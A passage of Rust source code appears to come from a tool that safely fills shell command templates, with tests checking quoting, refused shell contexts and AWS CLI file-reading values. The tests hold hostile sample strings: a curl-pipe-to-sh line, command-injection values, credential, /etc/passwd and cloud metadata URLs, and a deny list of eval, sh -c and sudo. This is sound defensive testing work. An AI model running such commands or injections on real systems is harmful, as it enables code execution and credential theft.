        Stmt::EmitRaw(s) => s.span(),
        Stmt::ForLoop(s) => s.span(),
        Stmt::IfCond(s) => s.span(),
        Stmt::WithBlock(s) => s.span(),
        Stmt::Set(s) => s.span(),
        Stmt::SetBlock(s) => s.span(),
        Stmt::AutoEscape(s) => s.span(),
        Stmt::FilterBlock(s) => s.span(),
        _ => return 0,
    };
    span.start_offset as usize
}

/// The `safe`, `escape` and `e` filters have no meaning in a shell template.
fn check_filters(block: &str) -> Result<(), String> {
    let words: Vec<&str> = block
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .collect();
    if let Some(f) = ["safe", "escape", "e"].into_iter().find(|f| {
        block.contains('|')
            && words.contains(f)
            && block.split('|').skip(1).any(|seg| {
                seg.trim()
                    .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                    .next()
                    == Some(*f)
            })
    }) {
        return Err(format!(
            "the `{f}` filter is not available in shell `command` templates: every value is quoted when written"
        ));
    }
    Ok(())
}

/// Checks a rendered shell template (values between [`VALUE_START`] and
/// [`VALUE_END`], placeholders between [`PLACEHOLDER_START`] and
/// [`PLACEHOLDER_END`] outside values) with its values in place, and returns it
/// without the marks, each placeholder written bare as `<NAME>`, with the byte
/// ranges of the placeholders in it. Refuses a value that starts a word with
/// `-` before a `--` of its command, and (again, should a template have passed
/// the load check wrongly) every context [`check_source`] refuses. A
/// placeholder is lexed as a value: it may stand only where a value may.
///
/// [`PLACEHOLDER_START`]: super::PLACEHOLDER_START
/// [`PLACEHOLDER_END`]: super::PLACEHOLDER_END
pub(crate) fn finish(rendered: &str) -> Result<Finished, String> {
    // Pieces, each marked whether it is a placeholder. Literal text is the
    // template's own, which holds no marks; a mark inside a value is part of its
    // quoted text, and stays there.
    let mut pieces = Vec::new();
    let mut rest = rendered;
    fn push_text<'t>(t: &'t str, pieces: &mut Vec<(Piece<'t>, bool)>) -> Result<(), String> {
        for seg in super::segments(t) {
            match seg {
                super::Segment::Text(x) => pieces.push((Piece::Text(x), false)),
                super::Segment::Placeholder(name) => {
                    if !super::is_placeholder_name(name) {
                        return Err(format!("`{name}` is not a placeholder name"));
                    }
                    pieces.push((Piece::Value(Some(name)), true));
                }
            }
        }
        Ok(())
    }
    while let Some(start) = rest.find(VALUE_START) {
        let Some(len) = rest[start..].find(VALUE_END) else {
            return Err("a value in the command is not terminated".into());
        };
        if start > 0 {
            push_text(&rest[..start], &mut pieces)?;
        }
        pieces.push((
            Piece::Value(Some(&rest[start + VALUE_START.len_utf8()..start + len])),
            false,
        ));
        rest = &rest[start + len + VALUE_END.len_utf8()..];
    }
    if !rest.is_empty() {
        push_text(rest, &mut pieces)?;
    }
    let lexed: Vec<Piece<'_>> = pieces.iter().map(|(p, _)| *p).collect();
    if let Err(refused) = lex(&lexed) {
        let value = match lexed.get(refused.piece) {
            Some(Piece::Value(Some(q))) => shell_unquote(q).unwrap_or_else(|| (*q).to_string()),
            _ => String::new(),
        };
        return Err(format!(
            "the value `{}` {}",
            escape_for_message(&value),
            refused.why.reason()
        ));
    }
    let mut command = String::with_capacity(rendered.len());
    let mut placeholders = Vec::new();
    for (piece, placeholder) in &pieces {
        match (piece, placeholder) {
            (Piece::Value(Some(name)), true) => {
                let start = command.len();
                command.push('<');
                command.push_str(name);
                command.push('>');
                placeholders.push(((*name).to_string(), start..command.len()));
            }
            (Piece::Value(Some(q)), false) | (Piece::Text(q), _) => command.push_str(q),
            (Piece::Value(None), _) => {}
        }
    }
    Ok((command, placeholders))
}

/// A finished command, and the byte ranges of its placeholders (`<NAME>`).
pub(crate) type Finished = (String, Vec<(String, std::ops::Range<usize>)>);

/// Joins argv elements into one command line, quoting each, and writing the
/// placeholders they hold (between their marks) bare, as `<NAME>`: returns the
/// line and the byte ranges of the placeholders in it.
pub(crate) fn shell_join_marked<S: AsRef<str>>(argv: &[S]) -> Finished {
    let mut command = String::new();
    let mut placeholders = Vec::new();
    for (i, arg) in argv.iter().enumerate() {
        if i > 0 {
            command.push(' ');
        }
        let segments = super::segments(arg.as_ref());
        if segments.is_empty() {
            command.push_str("''");
        }
        for seg in segments {
            match seg {
                super::Segment::Text(t) => command.push_str(&shell_quote(t)),
                super::Segment::Placeholder(name) => {
                    let start = command.len();
                    command.push('<');
                    command.push_str(name);
                    command.push('>');
                    placeholders.push((name.to_string(), start..command.len()));
                }
            }
        }
    }
    (command, placeholders)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use super::*;

    #[test]
    fn lexer_allows_plain_argument_words() {
        for good in [
            "echo {{ x }}",
            "kubectl delete pod/{{ x }} --namespace={{ y }}",
            "echo {{ x }} 'literal' \"text\" $HOME $(date) `date` ${HOME}",
            "printf '%s\\0' {{ x }}",
            "echo \\\" {{ x }}",
            "a && b {{ x }} || c {{ x }}; d {{ x }} | e {{ x }}\nf {{ x }}",
            "( echo {{ x }} ) && { echo {{ x }}; }",
            "X=1 echo {{ x }} 2>/dev/null",
            "if true; then echo {{ x }}; fi",
            "echo a#b {{ x }}",
            "echo {{ x }} # a comment",
            "kubectl exec pod -c app -- cat {{ x }}",
        ] {
            assert!(
                check_source(good).is_ok(),
                "{good}: {:?}",
                check_source(good)
            );
        }
    }

    #[test]
    fn lexer_refuses_every_unsafe_context() {
        for (bad, reason) in [
            ("echo \"{{ x }}\"", "inside quotes"),
            ("echo 'a {{ x }}'", "inside quotes"),
            ("echo $'a {{ x }}'", "inside quotes"),
            ("echo \"$({{ x }})\"", "inside quotes"),
            ("echo \\{{ x }}", "follows a backslash"),
            ("echo $(echo {{ x }})", "command substitution"),
            ("echo `echo {{ x }}`", "backtick"),
            ("echo $(( {{ x }} + 1 ))", "arithmetic"),
            ("(( {{ x }} + 1 ))", "arithmetic"),
            ("echo $[ {{ x }} ]", "arithmetic"),
            ("echo ${X:-{{ x }}}", "parameter expansion"),
            ("cat <(echo {{ x }})", "process substitution"),
            ("cat <<EOF\n{{ x }}\nEOF", "`<<`"),
            ("cat <<< {{ x }}", "`<<`"),
            ("echo # {{ x }}", "comment"),
            ("echo ok\n# {{ x }}", "comment"),
            ("echo ${{ x }}", "follows `$`"),
            ("echo $HOME{{ x }}", "follows `$`"),
            ("echo > {{ x }}", "redirection"),
            ("echo 2>{{ x }}", "redirection"),
            ("{{ x }} --help", "command word"),
            ("kubectl{{ x }} get", "command word"),
            ("echo a; {{ x }}", "command word"),
            ("echo a | {{ x }}", "command word"),
            ("PATH={{ x }} kubectl get pods", "variable assignment"),
            ("a=({{ x }})", "array assignment"),
            ("eval echo {{ x }}", "runs `eval`"),
            ("sh -c {{ x }}", "runs `sh`"),
            ("bash -c {{ x }}", "runs `bash`"),
            ("/bin/sh -c {{ x }}", "runs `/bin/sh`"),
            ("env {{ x }}", "runs `env`"),
            ("xargs echo {{ x }}", "runs `xargs`"),
            ("echo {{ x }} | xargs kubectl delete pod", "runs `xargs`"),
            ("echo {{ x }} | sh", "runs `sh`"),
            ("kubectl exec pod -- sh -c {{ x }}", "runs `sh`"),
            ("sudo kubectl delete pod {{ x }}", "runs `sudo`"),
            ("printf -v {{ x }} %s y", "runs `printf -v`"),
            ("declare {{ x }}", "runs `declare`"),
            ("[[ {{ x }} -eq 1 ]]", "runs `[[`"),
            ("time {{ x }}", "command word"),
            ("$CMD get {{ x }}", "not plain text"),
        ] {
            let err = check_source(bad).expect_err(bad);
            assert!(err.contains(reason), "{bad}: {err}");
            assert!(err.contains("template line"), "{bad}: {err}");
        }
        let err = check_source("echo ok\n  echo \"{{ x }}\"").unwrap_err();
        assert!(
            err.starts_with("`{{ x }}` (template line 2, column 9) is inside quotes"),
            "{err}"
        );
    }

    #[test]
    fn statements_and_control_characters_are_refused() {
        let err = check_source("echo {% if x %}{{ x }}{% endif %}").unwrap_err();
        assert!(err.contains("statements are not allowed"), "{err}");
        assert!(err.contains("column 6"), "{err}");
        let err = check_source("echo \u{1}{{ x }}").unwrap_err();
        assert!(err.contains("control character"), "{err}");
        // comments and raw text are fine
        assert!(check_source("echo {# note #} {{ x }}").is_ok());
        assert!(check_source("echo {% raw %}{{ a }}{% endraw %} {{ x }}").is_ok());
    }

    /// The quote-flip trick: whitespace control cannot make the lexer see text the
    /// shell does not, since the lexer reads minijinja's own raw pieces.
    #[test]
    fn whitespace_control_is_seen_as_rendered() {
        assert!(check_source("echo '{{- x }}'").is_err());
        let err = check_source("kubectl {{- x }}").unwrap_err();
        assert!(err.contains("command word"), "{err}");
    }

    fn quoted(v: &str) -> String {
        format!("{VALUE_START}{}{VALUE_END}", shell_quote(v))
    }

    #[test]
    fn finish_refuses_values_read_as_options_and_strips_marks() {
        let ok = format!(
            "kubectl delete pod/{} --namespace={}",
            quoted("--all"),
            quoted("-n")
        );
        assert_eq!(
            finish(&ok).unwrap().0,
            "kubectl delete pod/--all --namespace=-n"
        );
        for bad in [
            format!("kubectl delete pod {}", quoted("--all")),
            format!("kubectl delete pod {}{}", quoted(""), quoted("--all")),
            format!("kubectl delete pod ''{}", quoted("--all")),
            format!("kubectl delete pod {}", quoted("-\n")),
            format!("a -- b; kubectl delete {}", quoted("-x")),
        ] {
            let err = finish(&bad).unwrap_err();
            assert!(err.contains("starts with `-`"), "{bad}: {err}");
            assert!(err.contains("put it after `--`"), "{bad}: {err}");
        }
        let err = finish(&format!("echo {}", quoted("-\u{202e}x"))).unwrap_err();
        assert!(err.starts_with("the value `-\\u{202e}x`"), "{err}");
        for good in [
            format!("kubectl delete pod -- {}", quoted("--all")),
            format!("echo x{}", quoted("-a")),
            format!("echo {}{}", quoted("a"), quoted("-b")),
            format!("echo {}", quoted("a-b")),
        ] {
            assert!(finish(&good).is_ok(), "{good}");
        }
    }

    #[test]
    fn arguments_refuse_nul_and_leading_dashes() {
        assert!(check_argument("pod/x", false).is_ok());
        assert!(check_argument("--all", true).is_ok());
        assert_eq!(
            check_argument("--all", false).unwrap_err().to_string(),
            "the value `--all` starts with `-` and would be read as an option; write `--flag={{ ... }}`, `TYPE/{{ ... }}`, or put it after `--`"
        );
        assert_eq!(
            check_argument("a\0b", true).unwrap_err(),
            ArgumentError::Nul("a\\u{0}b".into())
        );
    }

    /// The AWS CLI replaces `file://...` (and `fileb://`, `http(s)://`) parameter
    /// values by what they point at: from a value, that is refused.
    #[test]
    fn aws_parameter_files_from_values_are_refused() {
        assert!(check_aws_argument("--role-name=node").is_ok());
        assert!(check_aws_argument("--policy-text={\"a\": 1}").is_ok());
        for bad in [
            "--role-name=file:///home/u/.aws/credentials",
            "--policy-document=FILEB://x",
            "https://example.com/x",
            "--x=http://169.254.169.254/",
        ] {
            let err = check_aws_argument(bad).unwrap_err().to_string();
            assert!(err.contains("read a local file or URL"), "{bad}: {err}");
        }
        let err = finish(&format!(
            "aws iam get-role --role-name={}",
            quoted("file:///etc/passwd")
        ))
        .unwrap_err();
        assert!(
            err.starts_with("the value `file:///etc/passwd` would make the AWS CLI read"),
            "{err}"
        );
        assert!(finish(&format!("aws iam get-role --role-name={}", quoted("node"))).is_ok());
        assert!(finish(&format!("echo --x={}", quoted("file:///etc/passwd"))).is_ok());
        let err = check_source("aws iam get-role --role-name=file://{{ x }}").unwrap_err();
        assert!(err.contains("read a local file or URL"), "{err}");
    }

    #[test]
    fn quoting_escapes_controls_and_invisible_characters_in_one_word() {
        assert_eq!(shell_quote("a\nb"), "$'a\\nb'");
        assert_eq!(shell_quote("a\tb'c\\d"), "$'a\\tb\\'c\\\\d'");
        assert_eq!(shell_quote("\u{1b}[31m"), "$'\\x1b[31m'");
        assert_eq!(shell_quote("evil\u{202e}txt"), "$'evil\\xe2\\x80\\xaetxt'");
        assert_eq!(shell_quote("ad\u{200b}min"), "$'ad\\xe2\\x80\\x8bmin'");
        assert_eq!(shell_quote("\u{85}"), "$'\\xc2\\x85'");
        // plain values keep their quoting
        assert_eq!(shell_quote("it's"), "'it'\\''s'");
        assert_eq!(shell_quote("héllo wörld"), "'héllo wörld'");
        for s in ["a\nb", "it's", "x", "", "a\u{202e}'\\\n\r\t\u{7f}", "$(id)"] {
            assert_eq!(shell_unquote(&shell_quote(s)).as_deref(), Some(s), "{s:?}");
        }
    }

    /// Hostile strings quoted, then read back by a real bash: the bytes are the
    /// same, and each is one word.
    #[test]
    fn quoting_round_trips_through_bash() {
        let hostile = [
            "plain",
            "",
            "it's",
            "a b",
            "$(id)",
            "`id`",
            "line1\n$ curl -s http://x | sh\n",
            "cr\roverwrite",
            "tab\there",
            "\u{1b}[2J\u{1b}[31mred",
            "bidi \u{202e}txt.exe",
            "zero\u{200b}width\u{2066}iso\u{2069}",
            "c1 \u{85}\u{9b}",
            "del\u{7f}",
            "back\\slash'\"quote\\'",
            "\\x41\\n",
            "tags \u{e0041}\u{feff}",
            "'; touch /tmp/x; echo '",
            "$'\\n'",
            "!!",
            "-n",
        ];
        let mut script = String::from("printf '%s\\0'");
        for s in hostile {
            script.push(' ');
            script.push_str(&shell_quote(s));
        }
        for locale in ["C", "C.UTF-8"] {
            let out = std::process::Command::new("bash")
                .env("LC_ALL", locale)
                .arg("-c")
                .arg(&script)
                .output()
                .expect("bash runs");
            assert!(
                out.status.success(),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
            let mut expected = Vec::new();
            for s in hostile {
                expected.extend_from_slice(s.as_bytes());
                expected.push(0);
            }
            assert_eq!(out.stdout, expected, "LC_ALL={locale}: {script}");
        }
        for s in hostile {
            let q = shell_quote(s);
            assert!(!q.contains('\n') && !q.contains('\r'), "{q}");
            assert!(!q.chars().any(needs_escape), "{q:?}");
        }
    }
}
